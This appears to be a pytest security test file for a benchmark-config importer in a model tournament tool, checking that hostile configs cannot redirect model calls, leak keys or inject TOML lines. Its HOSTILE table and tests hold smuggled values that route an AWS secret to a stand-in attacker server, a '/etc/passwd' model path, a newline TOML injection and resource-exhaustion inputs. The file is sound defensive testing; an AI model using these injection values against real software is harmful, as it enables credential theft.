"""A Xent benchmark config is somebody else's file (issue 29, items 1 and 8): built from the
reproductions of a hostile user. A config value never reaches a player spec, a URL or a key
variable; the tournament file is written by its model, so no value adds a line; malformed
configs (deep nesting, "1e12") are one sentence. Also the imported players' model settings
(issue 31 item 1), the movable folder (item 7) and the two commands (issue 34 item 4)."""

from __future__ import annotations

import asyncio
import copy
import json
import os
import shutil
import sqlite3
import tomllib
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from arena.cli import build_app
from arena.errors import ConfigError
from arena.specs import parse_spec
from arena.tournaments.services.exchange.xent_config import (
    import_config,
    parse_config,
    write_tournament,
)
from tests.support.openai_compat_server import ServerState, key_fingerprint, start_server

DATA = Path(__file__).resolve().parents[1] / "data" / "xent_configs"
CONFIG = DATA / "benchmark0.2.json"
APP = build_app()
SECRET = "aws-secret-0123456789abcdef"  # what the organiser keeps in AWS_SECRET_ACCESS_KEY
BASE = "http://127.0.0.1:9/v1"  # an attacker's server


def config() -> Any:
    return json.loads(CONFIG.read_text(encoding="utf-8"))


def small(players: list[dict[str, Any]]) -> Any:
    """Benchmark 0.2 with one game (Condense), its first map and the given players."""
    data = config()
    data["games"] = data["games"][:1]
    data["maps"] = [m for m in data["maps"] if m["name"] == "Condense"][:1]
    data["players"] = players
    return data


def player(ident: str = "p", **options: object) -> dict[str, Any]:
    return {"name": "black", "id": ident, "player_type": "default",
            "options": {"model": "gpt-4o-mini", "provider": "openai", **options}}


HOSTILE: dict[str, dict[str, Any]] = {
    "model with a query": player(model=f"gpt-4o-mini?api_base={BASE}"),
    "model with the key variable": player(
        model=f"gpt-4o-mini?api_key_env=AWS_SECRET_ACCESS_KEY&api_base={BASE}"),
    "temperature with more parameters": player(
        temperature=f"0.2&api_key_env=AWS_SECRET_ACCESS_KEY&api_base={BASE}"),
    "max_tokens with more parameters": player(max_tokens=f"9&api_base={BASE}"),
    "provider with a path": player(provider=f"openai/x?api_base={BASE}&"),
    "an api_base option": player(api_base=BASE, api_key_env="AWS_SECRET_ACCESS_KEY"),
    "an api_key option": player(api_key="sk-live-0123456789abcdef"),
    "a model that is a URL": player(model="http://127.0.0.1:9/v1"),
    "a local model path": player(model="/etc/passwd", provider="huggingface"),
    "an id with a quote and a newline": player(ident='p"\nplayer = "human'),
    "a model with a newline": player(model="gpt-4o\napi_base=x"),
}


def written_specs(out: Path) -> list[str]:
    doc = tomllib.loads((out / "tournament.toml").read_text(encoding="utf-8"))
    return [p["player"] for p in doc["participants"]]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_config_value_reaches_a_url_or_a_key_variable(tmp_path: Path, name: str) -> None:
    """Either the import refuses the config in one sentence, or every spec it wrote is the
    model of a known provider and no parameter names a server, a key or a key variable."""
    out = tmp_path / "out"
    try:
        import_config(small([HOSTILE[name]]), out)
    except ConfigError as error:
        assert "\n" not in str(error) and SECRET not in str(error)
        assert not (out / "tournament.toml").exists()  # nothing written before the check
        return
    for text in written_specs(out):
        spec = parse_spec(text)
        assert "?" not in spec.arg and "/" not in spec.arg.split("/", 1)[1], text
        assert not {"api_base", "api_key", "api_key_env"} & set(spec.params), text
        assert "127.0.0.1" not in text and "http" not in text, text


def test_a_hostile_config_never_sends_the_organisers_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reproduction: a config whose temperature carries `&api_key_env=...&api_base=...`,
    imported and run, sent `Bearer <AWS secret>` to the attacker's server (here on loopback).
    The option is never read: the spec names no server, and the server sees nothing."""
    pytest.importorskip("litellm")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    state = ServerState(default={"reply": "<move>lantern harbour</move>"})
    specs: list[str] = []

    async def attack() -> None:
        async with start_server(state=state) as base:
            evil = player(temperature=f"0.2&api_key_env=AWS_SECRET_ACCESS_KEY&api_base={base}")
            _, toml = import_config(small([evil]), tmp_path / "bench", judge="bundled", rounds=1)
            specs.extend(written_specs(toml.parent))
            if any(base in spec for spec in specs):  # a vulnerable importer: play it
                db = f"sqlite:///{tmp_path / 'a.db'}"
                await asyncio.to_thread(
                    CliRunner().invoke, APP, ["run", str(toml), "--db", db, "--no-progress"]
                )

    asyncio.run(attack())
    assert key_fingerprint(SECRET) not in {r.key_fingerprint for r in state.requests}
    assert state.requests == []
    assert specs == [
        "litellm:openai/gpt-4o-mini?max_tokens=none&prompt=xent-benchmark&temperature=none"
        "&timeout=600"
    ]


def test_the_tournament_file_is_written_by_its_model_so_no_value_adds_a_line(
    tmp_path: Path,
) -> None:
    """A benchmark id with newlines once wrote new TOML lines through the file's header."""
    data = small([player("alice")])
    data["metadata"]["benchmark_id"] = (
        'x\n[[participants]]\nname = "evil"\nplayer = "human"\n#'
    )
    toml = write_tournament(parse_config(data), tmp_path / "out")
    doc = tomllib.loads(toml.read_text(encoding="utf-8"))
    assert [p["name"] for p in doc["participants"]] == ["alice"]
    lines = toml.read_text(encoding="utf-8").splitlines()
    assert 'name = "evil"' not in lines and 'player = "human"' not in lines
    assert "\n" not in doc["name"] and doc["name"].startswith("x-")


DEEP = 100_000


@pytest.mark.parametrize(
    ("body", "says"),
    [
        ("[" * DEEP + "]" * DEEP, "nests arrays or objects too deeply"),
        ("__maps_per_game__", "num_maps_per_game is '1e12'"),
        ("__deep_code__", "code does not have its game's assign lines"),
        ("__big_rounds__", "num_rounds_per_game is 1000000000000"),
    ],
)
def test_malformed_configs_are_one_sentence(tmp_path: Path, body: str, says: str) -> None:
    data = config()
    if body == "__maps_per_game__":
        condensed = {"config_type": "condensed_xent_config", "metadata": data["metadata"],
                     "players": data["players"][:1], "games": data["games"][:1],
                     "expansion_config": {"num_maps_per_game": "1e12"}}
        body = json.dumps(condensed)
    elif body == "__deep_code__":  # a map whose code nests a million unary minus signs
        data["maps"][0]["code"] = "assign(s=" + "-" * 1_000_000 + "1)\n"
        body = json.dumps(data)
    elif body == "__big_rounds__":
        data["metadata"]["num_rounds_per_game"] = 10**12
        body = json.dumps(data)
    path = tmp_path / "c.json"
    path.write_text(body, encoding="utf-8")
    ran = CliRunner().invoke(APP, ["import-benchmark", str(path), "--out", str(tmp_path / "o")])
    assert ran.exit_code == 2, ran.output
    assert says in ran.output and "Traceback" not in ran.output and "internal error" not in (
        ran.output)


def test_imported_players_make_the_references_model_calls(tmp_path: Path) -> None:
    """Issue 31 item 1: an imported OpenAI player sends no temperature and no output limit;
    an Anthropic one max_tokens=4096; each waits 600 s; the user's --player-param wins."""
    pytest.importorskip("litellm")
    from arena.players.llm.player import _call_args, parse_settings

    specs = dict(zip(
        [p["id"] for p in config()["players"]],
        written_specs(write_tournament(parse_config(config()), tmp_path / "b").parent),
        strict=True,
    ))
    openai = parse_settings(parse_spec(specs["gpt-5"]))
    anthropic = parse_settings(parse_spec(specs["claude-opus-4-1-20250805"]))
    assert (openai.temperature, openai.max_tokens, openai.timeout) == (None, None, 600.0)
    assert (anthropic.temperature, anthropic.max_tokens, anthropic.timeout) == (
        None, 4096, 600.0)
    sent = _call_args(anthropic, [{"role": "user", "content": "hi"}], 1, None)
    assert "temperature" not in sent and sent["max_tokens"] == 4096 and sent["timeout"] == 600

    # over the wire: an imported player pointed (by the user) at a server on loopback
    state = ServerState(default={"reply": "<move>lantern harbour</move>"})

    async def play() -> None:
        async with start_server(state=state) as base:
            out = tmp_path / "wire"
            ran = await asyncio.to_thread(
                CliRunner().invoke, APP,
                ["import-benchmark", str(_small_file(tmp_path)), "--out", str(out), "--judge",
                 "bundled", "--rounds", "1", "--player-param", f"api_base={base}",
                 "--player-param", "retries=0"],
            )
            assert ran.exit_code == 0, ran.output
            db = f"sqlite:///{tmp_path / 'w.db'}"
            done = await asyncio.to_thread(
                CliRunner().invoke, APP,
                ["run", str(out / "tournament.toml"), "--db", db, "--no-progress"],
            )
            assert done.exit_code == 0, done.output

    asyncio.run(play())
    assert state.requests, "the player made no call"
    for request in state.requests:
        assert "temperature" not in request.body and "max_tokens" not in request.body
        assert request.body["model"] == "gpt-4o-mini"


def _small_file(tmp_path: Path) -> Path:
    path = tmp_path / "small.json"
    path.write_text(json.dumps(small([player("mini")])), encoding="utf-8")
    return path


def test_the_imported_folder_can_be_moved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 31 item 7: maps.json is named relative to the tournament file; the folder is
    moved and run from another directory, and plays the published map."""
    first = tmp_path / "first"
    toml = write_tournament(
        parse_config(small([player("mini")])), first, judge="bundled", rounds=1,
        players=[("scripted", "scripted:lantern harbour")],
    )
    assert tomllib.loads(toml.read_text(encoding="utf-8"))["stories"] == "xent-maps:maps.json"
    moved = tmp_path / "elsewhere" / "bench"
    moved.parent.mkdir()
    shutil.move(str(first), str(moved))
    monkeypatch.chdir(tmp_path)
    db = tmp_path / "m.db"
    ran = CliRunner().invoke(
        APP, ["run", str(moved / "tournament.toml"), "--db", f"sqlite:///{db}", "--no-progress"]
    )
    assert ran.exit_code == 0, ran.output
    assert "0 error(s)" in ran.output
    with sqlite3.connect(db) as conn:
        sources = {r[0] for r in conn.execute("SELECT story_source FROM maps")}
    assert sources == {"xent-maps:gameCondense_map0"}


def test_each_job_has_its_command_and_a_wrong_use_names_the_right_one(tmp_path: Path) -> None:
    """Issue 34 item 4: `arena import` stores results, `arena import-benchmark` writes a
    tournament; the README's former form and a results file given to the other command say
    which command to use."""
    results = tmp_path / "r.csv"
    results.write_text("game,participant_a,score_a\ng,a,1\n", encoding="utf-8")
    old_form = CliRunner().invoke(APP, ["import", str(CONFIG), "--out", str(tmp_path / "x")])
    assert old_form.exit_code == 2
    assert f"arena import-benchmark {CONFIG} --out" in old_form.output
    no_options = CliRunner().invoke(APP, ["import", str(CONFIG), "-t", "x"])
    assert no_options.exit_code == 2 and "arena import-benchmark" in no_options.output
    swapped = CliRunner().invoke(APP, ["import-benchmark", str(results)])
    assert swapped.exit_code == 2 and f"arena import {results} --tournament" in swapped.output
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize("kind", ["fifo", "device", "directory"])
def test_only_a_regular_config_file_is_read(tmp_path: Path, kind: str) -> None:
    """`/dev/zero` read until memory ran out; a FIFO waited for a writer forever."""
    path = tmp_path / "config.json"
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "device":
        path = Path("/dev/zero")
    else:
        path.mkdir()
    ran = CliRunner().invoke(APP, ["import-benchmark", str(path), "--out", str(tmp_path / "o")])
    assert ran.exit_code == 2 and "not a regular file" in ran.output, ran.output


def test_a_copy_of_the_published_config_still_imports(tmp_path: Path) -> None:
    """The strict rules refuse nothing of the published configs."""
    for name in ("benchmark0.1.json", "benchmark0.2.json"):
        data = copy.deepcopy(json.loads((DATA / name).read_text(encoding="utf-8")))
        bench = parse_config(data)
        assert write_tournament(bench, tmp_path / name).exists()
